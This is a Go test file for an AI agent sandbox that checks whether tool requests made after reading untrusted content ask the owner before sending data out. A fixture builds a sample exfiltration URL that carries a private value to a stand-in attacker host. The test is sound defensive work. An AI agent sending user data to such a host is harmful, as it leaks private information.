package sandbox

import (
	"context"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/talonhq/talon/agent"
	"github.com/talonhq/talon/sandbox/egress"
)

// TestTaintedRequestsAsk: in a tainted turn a request to a host that is
// not trusted, or one carrying data past the bound, asks the owner first,
// showing the whole path and query (the data) and why; a refusal sends
// nothing and tells the model the user refused without echoing the data;
// an approval lets it through, marked approved for the broker. Untainted
// turns and small requests to trusted hosts are not asked. A response from
// an untrusted host taints the result.
func TestTaintedRequestsAsk(t *testing.T) {
	eg := &fakeEgress{respond: func(r egress.Request) (*egress.Response, error) {
		return &egress.Response{Status: 200, Body: "hi", URL: r.URL}, nil
	}}
	trusted, err := agent.ParseTrustedHosts([]string{"api.example"})
	if err != nil {
		t.Fatal(err)
	}
	taint := &egress.Taint{Trusted: trusted, MaxURLData: 32}
	const private = "my-salary-is-123456"
	leak := "https://evil.example/c?d=" + private
	tool := testTool(t, "http", "http: [{host: api.example}, {host: \"*\"}]\n")

	tests := []struct {
		name, taint, args string
		approve           bool
		wantAsked         int
		wantSent          int
		wantApproved      bool
		wantTaint         string
	}{
		{"untainted goes as before", "", `{"url":"` + leak + `"}`, false, 0, 2, false, "evil.example"},
		{"tainted to an untrusted host, refused", "tool http_fetch: page.example", `{"url":"` + leak + `"}`, false, 2, 0, false, ""},
		{"tainted to an untrusted host, approved", "tool http_fetch: page.example", `{"url":"` + leak + `"}`, true, 2, 2, true, "evil.example"},
		{"tainted, trusted and small", "file a.csv", `{"url":"https://api.example/v1?q=1"}`, false, 0, 2, false, ""},
		{"tainted, trusted, long", "file a.csv", `{"url":"https://api.example/v1?q=` + strings.Repeat(private, 3) + `"}`, false, 2, 0, false, ""},
		{"tainted, trusted, a body", "file a.csv", `{"method":"POST","url":"https://api.example/v1","body":"` + private + `"}`, false, 2, 0, false, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			eg.mu.Lock()
			eg.reqs, eg.callers = nil, nil
			eg.mu.Unlock()
			fa := &fakeApprover{ok: tt.approve}
			r := newRuntime(t, Config{Egress: eg, Approver: fa, Taint: taint, PoolSize: -1}, tool)
			c := call("http", tt.args)
			c.Taint = tt.taint
			got, err := r.Run(context.Background(), c)
			if err != nil {
				t.Fatal(err)
			}
			if len(fa.reqs) != tt.wantAsked {
				t.Fatalf("asked %d times, want %d", len(fa.reqs), tt.wantAsked)
			}
			if n := len(eg.requests()); n != tt.wantSent {
				t.Errorf("sent %d requests, want %d", n, tt.wantSent)
			}
			if got.Taint != tt.wantTaint {
				t.Errorf("result taint %q, want %q", got.Taint, tt.wantTaint)
			}
			if tt.wantAsked > 0 {
				q := fa.reqs[0]
				if !strings.Contains(q.Reason, "this conversation read untrusted content ("+tt.taint+")") {
					t.Errorf("reason %q does not name the taint", q.Reason)
				}
				if !strings.Contains(q.Path, private) && !strings.Contains(tt.args, `"body"`) {
					t.Errorf("path %q does not show the data that would leave", q.Path)
				}
				if q.URLBytes == 0 || q.Method == "" || q.Host == "" || !strings.HasPrefix(q.Description, "send data #") {
					t.Errorf("approval request %+v", q)
				}
				if strings.Contains(tt.args, `"body"`) && q.BodyBytes != len(private) {
					t.Errorf("body bytes %d, want %d", q.BodyBytes, len(private))
				}
				if !tt.approve {
					// The whole result is the refusal, whatever the tool
					// made of it.
					if diff := cmp.Diff(agent.ToolResult{Content: refusedData, IsError: true}, got); diff != "" {
						t.Errorf("refusal (-want +got):\n%s", diff)
					}
					if strings.Contains(got.Content, private) {
						t.Error("the refusal echoes the data")
					}
				}
			}
			eg.mu.Lock()
			defer eg.mu.Unlock()
			for _, c := range eg.callers {
				if c.Tainted != tt.taint || c.Approved != tt.wantApproved {
					t.Errorf("caller tainted %q approved %v, want %q %v", c.Tainted, c.Approved, tt.taint, tt.wantApproved)
				}
			}
		})
	}
}
